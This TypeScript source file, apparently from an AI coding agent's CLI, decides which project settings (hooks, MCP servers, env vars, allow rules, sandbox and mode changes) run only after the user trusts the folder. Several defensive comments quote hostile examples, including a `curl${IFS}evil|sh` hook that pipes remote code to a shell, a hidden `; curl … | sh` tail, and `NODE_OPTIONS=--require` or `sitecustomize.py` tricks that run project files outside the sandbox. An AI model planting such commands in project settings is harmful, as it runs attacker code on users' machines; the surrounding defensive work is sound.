/**
 * Which parts of a project's settings only narrow (deny and ask rules, a stricter mode or
 * sandbox, removed tools: always applied) and which execute or widen (hooks, MCP servers, env, allow rules, a
 * wider mode, a weaker sandbox, keepGrants, provider and model: applied only once the folder is
 * trusted, each pinned on its own). The user's own settings always apply.
 */
import { relative, resolve } from 'node:path';
import type { CommandHook, HooksConfig } from '@agent/command-hooks';
import {
  credentialRuleOf,
  credentialValueRules,
  type PermissionMode,
  urlWithoutCredentials,
} from '@agent/core';
import type { SandboxMode } from '@agent/sandbox';
import type { TrustItem } from '@agent/workspace-trust';
import type { McpServerEntry } from './mcp-servers.js';
import { emptySettings, type Settings, type SettingsLayer } from './settings.js';
import {
  type FileDigestCache,
  projectFileDigests,
  pythonPathFolders,
  pythonStartupFiles,
} from './trust-scripts.js';

/** What the project's mode and sandbox are compared with. */
export interface TrustBaseline {
  /** The mode the session would have without the project: the flag, the user's, or the front end's default. */
  mode: PermissionMode;
  /** Whether `--mode` was given (then no file can change it). */
  modeFromFlag: boolean;
  sandbox: SandboxMode;
  sandboxFromFlag: boolean;
}

const modeRank: Record<PermissionMode, number> = {
  default: 0,
  'read-only': 1,
  'workspace-write': 2,
  'full-access': 3,
  // Allows what read-only allows (and refuses the rest without asking): as wide as read-only.
  plan: 1,
};
const sandboxStrength: Record<SandboxMode, number> = { off: 0, auto: 1, required: 2 };

/**
 * An item's key: the file's absolute path (under the folder's real path) and the setting. A moved
 * folder is a new folder; a subfolder's own files are its own items.
 */
export function trustItemKey(file: string, setting: string): string {
  return `${file} ${setting}`;
}

/** One part of a settings file: applied to the merge; `item` set when it needs trust. */
interface Part {
  item?: TrustItem;
  apply(target: Settings, servers: Map<string, McpServerEntry>): void;
}

/**
 * Longest text of one item the trust question shows (characters). What is asked about is shown
 * whole — a hook clipped after 100 characters showed `echo "…` while `; curl … | sh` ran after
 * the cut — and an item longer than this is not shown at all, said so with where to read it.
 */
export const maximumShownItemChars = 2000;

/**
 * A run of key characters inside a credential-shaped match (no `/` or `.`: a path stays
 * readable), masked after its first four characters.
 */
const keyRun = /[A-Za-z0-9_~+=-]{8,}/g;

/**
 * `text` with the key inside each credential-shaped part masked (`sk-a***`), and nothing else:
 * the notice goes to stderr, which CI keeps in its logs, and a project file can be a link to the
 * user's own settings. Only runs of key characters are masked, never a whole word — a hook
 * `curl${IFS}evil|sh;sk-…` was shown as `***` whole, its command hidden behind the key it carried.
 */
function maskKeys(text: string): string {
  let shown = text;
  for (const rule of credentialValueRules) {
    const global = new RegExp(rule.pattern.source, `${rule.pattern.flags.replace('g', '')}g`);
    shown = shown.replace(global, (match) =>
      match.replace(keyRun, (run) => `${run.slice(0, 4)}***`),
    );
  }
  return shown;
}

/**
 * What a trust item shows of `text` (a command line, a URL, a value): all of it, keys masked, or
 * for one over {@link maximumShownItemChars} its size and where to read it — never a part.
 */
function shownText(text: string, where: string): string {
  if (text.length > maximumShownItemChars)
    return `(${text.length} characters, too long to show here: read ${where})`;
  return maskKeys(text);
}

/**
 * A value as the trust notice and question show it: that of a variable named like a credential
 * (`GITHUB_TOKEN`) is not printed; of any other, only the keys inside it are masked.
 */
function shownValue(name: string, value: string, where: string): string {
  return credentialRuleOf(name, undefined) === undefined
    ? shownText(value, where)
    : '[a credential, not shown]';
}

/** A URL with its password and credential-like query values left out. */
function shownUrl(url: string, where: string): string {
  return shownText(urlWithoutCredentials(url), where);
}

/**
 * Where a stdio server of the project runs, as the trust question says it: the user trusts it
 * in the sandbox or outside, and with what network.
 */
function whereServerRuns(entry: McpServerEntry, where: string): string {
  const network = entry.sandbox?.network;
  if (network === undefined) return 'outside the sandbox';
  if (network === 'off') return 'in the sandbox (no network)';
  if (network === 'on') return 'in the sandbox (network: any host)';
  return `in the sandbox (network: ${shownText(network.allowHosts.join(', '), where)})`;
}

function describeServer(entry: McpServerEntry, where: string): string {
  const transport = entry.transport;
  if (transport.type === 'stdio') {
    // Its environment changes what it runs (NODE_OPTIONS, PYTHONPATH…): values shown too.
    const env = Object.entries(transport.env ?? {}).map(
      ([name, value]) => `${name}=${shownValue(name, value, `${where}.env.${name}`)}`,
    );
    return `MCP server "${entry.name}" runs: ${shownText([transport.command, ...(transport.args ?? [])].join(' '), where)}, ${whereServerRuns(entry, where)}${transport.cwd === undefined ? '' : `, in ${shownText(transport.cwd, where)}`}${env.length > 0 ? ` (env ${env.join(' ')})` : ''}`;
  }
  if (transport.type === 'http') {
    const headers = Object.keys(transport.headers ?? {});
    return `MCP server "${entry.name}" connects to ${shownUrl(String(transport.url), where)}${headers.length > 0 ? ` (headers ${headers.join(', ')})` : ''}`;
  }
  return `MCP server "${entry.name}" (a custom transport)`;
}

/** The variables whose folders a program finds its imports in: PYTHONPATH, NODE_PATH. */
type SearchPaths = {
  PYTHONPATH?: string | undefined;
  NODE_PATH?: string | undefined;
  PERL5LIB?: string | undefined;
  PERLLIB?: string | undefined;
  RUBYLIB?: string | undefined;
};

/**
 * The `PYTHONPATH`, `NODE_PATH` and `PERL5LIB` (`PERLLIB`) the hooks run with as far as the settings say (the last
 * layer's that sets each): their scripts' imports are found in those folders, so what is found
 * there is pinned with each hook. The shell's are not read — a trust pin must not differ with the
 * shell the CLI starts from.
 */
function settingsSearchPaths(layers: readonly SettingsLayer[]): SearchPaths {
  const paths: SearchPaths = {};
  for (const layer of layers) {
    paths.PYTHONPATH = layer.file.env?.PYTHONPATH ?? paths.PYTHONPATH;
    paths.NODE_PATH = layer.file.env?.NODE_PATH ?? paths.NODE_PATH;
    paths.PERL5LIB = layer.file.env?.PERL5LIB ?? paths.PERL5LIB;
    paths.PERLLIB = layer.file.env?.PERLLIB ?? paths.PERLLIB;
    paths.RUBYLIB = layer.file.env?.RUBYLIB ?? paths.RUBYLIB;
  }
  return paths;
}

/** The folders of `paths` inside `root` (where the program runs), as projectFileDigests searches them. */
function searchFolders(paths: SearchPaths, root: string) {
  return {
    python: pythonPathFolders(paths.PYTHONPATH, root),
    node: pythonPathFolders(paths.NODE_PATH, root),
    // Perl reads PERLLIB only where PERL5LIB is not set.
    perl: pythonPathFolders(paths.PERL5LIB ?? paths.PERLLIB, root),
    ruby: pythonPathFolders(paths.RUBYLIB, root),
  };
}

/**
 * The parts of one layer, in the order the plain merge applies them; `hookPaths`: the hooks'
 * ({@link settingsSearchPaths}).
 */
function layerParts(
  layer: SettingsLayer,
  baseline: TrustBaseline,
  project: string,
  hookPaths: SearchPaths,
): Part[] {
  const { file } = layer;
  const source = layer.scope === 'user' ? layer.path : relative(project, layer.path);
  const trusted = layer.scope === 'user';
  const parts: Part[] = [];
  // The project files its hooks and servers run, each read once for this layer.
  const digests: FileDigestCache = new Map();
  const widening = (
    kind: TrustItem['kind'],
    key: string,
    description: string,
    value: unknown,
    apply: Part['apply'],
  ) => {
    parts.push(
      trusted
        ? { apply }
        : { item: { kind, key: trustItemKey(layer.path, key), source, description, value }, apply },
    );
  };
  const permissions = file.permissions ?? {};
  for (const rule of permissions.allow ?? [])
    widening('allow-rule', `permissions.allow ${rule}`, `allow rule ${rule}`, rule, (target) => {
      target.allow.push(rule);
    });
  parts.push({ apply: (target) => target.ask.push(...(permissions.ask ?? [])) });
  parts.push({ apply: (target) => target.deny.push(...(permissions.deny ?? [])) });
  const mode = permissions.defaultMode;
  if (mode !== undefined) {
    const apply: Part['apply'] = (target) => {
      target.mode = mode;
    };
    if (!baseline.modeFromFlag && modeRank[mode] > modeRank[baseline.mode])
      widening(
        'permission-mode',
        'permissions.defaultMode',
        `permission mode ${mode} (wider than ${baseline.mode})`,
        mode,
        apply,
      );
    else parts.push({ apply });
  }
  if (permissions.keepGrants !== undefined) {
    const keep = permissions.keepGrants;
    const apply: Part['apply'] = (target) => {
      target.keepGrants = keep;
    };
    if (keep)
      widening(
        'keep-grants',
        'permissions.keepGrants',
        'keepGrants: resumed sessions get their "always" answers back',
        keep,
        apply,
      );
    else parts.push({ apply });
  }
  if (file.model !== undefined) {
    const model = file.model;
    widening('model', 'model', `model ${model}`, model, (target) => {
      target.model = model;
    });
  }
  if (file.provider !== undefined) {
    const provider = file.provider;
    widening('provider', 'provider', `provider ${provider}`, provider, (target) => {
      target.provider = provider;
    });
  }
  if (file.sandbox !== undefined) {
    const sandbox = file.sandbox;
    const apply: Part['apply'] = (target) => {
      target.sandbox = sandbox;
    };
    if (!baseline.sandboxFromFlag && sandboxStrength[sandbox] < sandboxStrength[baseline.sandbox])
      widening(
        'sandbox',
        'sandbox',
        `sandbox ${sandbox} (weaker than ${baseline.sandbox})`,
        sandbox,
        apply,
      );
    else parts.push({ apply });
  }
  // Only the user's file may hold passEnv (a project file with it is refused when read).
  if (trusted) parts.push({ apply: (target) => target.passEnv.push(...(file.passEnv ?? [])) });
  // Likewise sessions; a timeout runs nothing and widens nothing.
  if (trusted)
    parts.push({ apply: (target) => Object.assign(target.sessions, file.sessions ?? {}) });
  // And mcpServe (only the user's file may hold it).
  if (trusted)
    parts.push({ apply: (target) => Object.assign(target.mcpServe, file.mcpServe ?? {}) });
  // And compaction (only the user's file may hold it).
  if (trusted && file.compaction !== undefined) {
    const compaction = file.compaction;
    parts.push({
      apply: (target) => {
        target.compaction = compaction;
      },
    });
  }
  // And codeMode (only the user's file may hold it).
  if (trusted && file.codeMode !== undefined) {
    const codeMode = file.codeMode;
    parts.push({
      apply: (target) => {
        target.codeMode = codeMode;
      },
    });
  }
  // And sandboxProtect (only the user's file may hold it: a project cannot weaken the sandbox).
  if (trusted && file.sandboxProtect !== undefined) {
    const protect = file.sandboxProtect;
    parts.push({ apply: (target) => Object.assign(target.sandboxProtect, protect) });
  }
  // And hooksSandbox (only the user's file may hold it, as the hooks' "sandbox" key).
  if (trusted && file.hooksSandbox !== undefined) {
    const hooksSandbox = file.hooksSandbox;
    parts.push({
      apply: (target) => {
        target.hooksSandbox = hooksSandbox;
      },
    });
  }
  if (trusted && file.hooksSandboxNetwork !== undefined) {
    const network = file.hooksSandboxNetwork;
    parts.push({
      apply: (target) => {
        target.hooksSandboxNetwork = network;
      },
    });
  }
  // A project file's tools only remove (readSettingsLayers drops any other item, said): always narrowing.
  if (file.tools !== undefined) {
    const list = { items: file.tools, source: `${layer.path}: "tools"` };
    parts.push({ apply: (target) => target.tools.push(list) });
  }
  if (file.mcpTimeout !== undefined) {
    const seconds = file.mcpTimeout;
    parts.push({
      apply: (target) => {
        target.mcpTimeout = seconds;
      },
    });
  }
  for (const [name, value] of Object.entries(file.env ?? {})) {
    // A value can name a project file that runs (`NODE_OPTIONS=--require ./setup.js`,
    // `BASH_ENV=./env.sh`, `PYTHONSTARTUP`): that file is pinned with it, like a hook's script.
    // So is what `PYTHONPATH=.` makes every python load, there or not: a pull that adds
    // `sitecustomize.py` ran it in the trusted hooks' python, outside the sandbox.
    const files = trusted
      ? {}
      : withFiles([value, ...pythonStartupFiles(name, value)], project, digests);
    widening(
      'env',
      `env.${name}`,
      `env ${name}=${shownValue(name, value, `${source} env.${name}`)}`,
      files.files === undefined ? value : { value, ...files },
      (target) => {
        target.env[name] = value;
      },
    );
  }
  for (const [event, entries] of Object.entries(file.hooks ?? {}) as [
    keyof HooksConfig,
    NonNullable<HooksConfig[keyof HooksConfig]>,
  ][]) {
    entries.forEach((entry, i) => {
      entry.hooks.forEach((hook: CommandHook, j) => {
        const matcher = entry.matcher;
        widening(
          'hook',
          `hooks.${event}[${i}].hooks[${j}]`,
          `hook ${event}${matcher === undefined || matcher === '' ? '' : ` (${matcher})`} runs: ${shownText(hook.command, `${source} hooks.${event}[${i}].hooks[${j}]`)}`,
          {
            matcher: matcher ?? null,
            command: hook.command,
            timeout: hook.timeout ?? null,
            // The user's own files are not pinned (nothing of theirs is asked about).
            ...(trusted
              ? {}
              : withFiles([hook.command], project, digests, searchFolders(hookPaths, project))),
          },
          (target) => {
            target.hooks[event] = [
              ...(target.hooks[event] ?? []),
              { ...(matcher === undefined ? {} : { matcher }), hooks: [hook] },
            ];
          },
        );
      });
    });
  }
  for (const entry of layer.servers)
    widening(
      'mcp-server',
      `mcpServers.${entry.name}`,
      describeServer(entry, `${source} mcpServers.${entry.name}`),
      !trusted && 'command' in entry.transport
        ? {
            ...entry.transport,
            // Trusted in the sandbox (and with its network) is not trusted outside it: a pull
            // that drops `"sandbox": true` ran the same server as the user, unasked.
            sandbox: entry.sandbox,
            ...withFiles(
              // Its env too: `NODE_OPTIONS=--require ./x.js` loads a project file as surely.
              [
                entry.transport.command,
                ...(entry.transport.args ?? []),
                ...Object.values(entry.transport.env ?? {}),
              ],
              resolve(project, entry.transport.cwd ?? '.'),
              digests,
              // A server gets its entry's env alone: its PYTHONPATH, from where it runs.
              searchFolders(
                entry.transport.env ?? {},
                resolve(project, entry.transport.cwd ?? '.'),
              ),
            ),
          }
        : entry.transport,
      (_target, servers) => {
        servers.set(entry.name, entry);
      },
    );
  return parts;
}

/**
 * `{ files }`: the project files `command` names, pinned by content (nothing when it names none);
 * `search`: the folders of its PYTHONPATH and NODE_PATH in the project, where its imports are found.
 */
function withFiles(
  command: readonly string[],
  project: string,
  cache: FileDigestCache,
  search: ReturnType<typeof searchFolders> = { python: [], node: [], perl: [], ruby: [] },
): { files?: Record<string, string> } {
  const files = projectFileDigests(command, project, { cache, search });
  return files === undefined ? {} : { files };
}

/** What the project's settings would execute or widen, each a {@link TrustItem} to pin. */
export function projectTrustItems(
  layers: readonly SettingsLayer[],
  baseline: TrustBaseline,
  project: string,
): TrustItem[] {
  const hookPaths = settingsSearchPaths(layers);
  return layers.flatMap((layer) =>
    layerParts(layer, baseline, project, hookPaths).flatMap((part) =>
      part.item === undefined ? [] : [part.item],
    ),
  );
}

/**
 * The settings merged in order with only what may apply: the user's files whole, the project's
 * narrowing parts, and of its widening parts those whose item key is in `accepted`.
 */
export function trustedSettings(
  layers: readonly SettingsLayer[],
  baseline: TrustBaseline,
  project: string,
  accepted: ReadonlySet<string>,
): Settings {
  const settings = emptySettings();
  const servers = new Map<string, McpServerEntry>();
  const hookPaths = settingsSearchPaths(layers);
  for (const layer of layers) {
    settings.files.push(layer.path);
    for (const part of layerParts(layer, baseline, project, hookPaths))
      if (part.item === undefined || accepted.has(part.item.key)) part.apply(settings, servers);
  }
  settings.mcpServers = [...servers.values()];
  return settings;
}
